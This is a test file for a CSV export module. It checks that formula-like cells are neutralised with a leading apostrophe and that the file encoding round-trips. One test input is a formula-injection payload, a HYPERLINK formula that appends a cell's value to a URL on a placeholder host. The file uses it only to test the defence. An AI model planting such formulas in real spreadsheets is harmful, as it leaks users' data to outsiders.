import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { guardCell, toSpreadsheetCsv } from "./spreadsheet.ts";

describe("spreadsheet files", () => {
  it("keeps formulas as text, whatever comes before them", () => {
    for (const cell of ['=HYPERLINK("http://x/?"&A1,"Alice")', "+33 1",
      "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]) {
      expect(guardCell(cell)).toBe(`'${cell}`);
    }
    expect(guardCell("Alice = Bob")).toBe("Alice = Bob");
  });

  it("writes UTF-8 with BOM, semicolons and CRLF that read back", () => {
    const file = toSpreadsheetCsv(["nom", "note"],
      [["Élise", 'dit "oui"; puis\nnon'], ["=1+1", ""]]);
    const text = file.toString("utf8");
    expect(text.startsWith("\uFEFFnom;note\r\n")).toBe(true);
    expect(parse(text.slice(1), { delimiter: ";" })).toEqual([
      ["nom", "note"], ["Élise", 'dit "oui"; puis\nnon'], ["'=1+1", ""]]);
  });
});
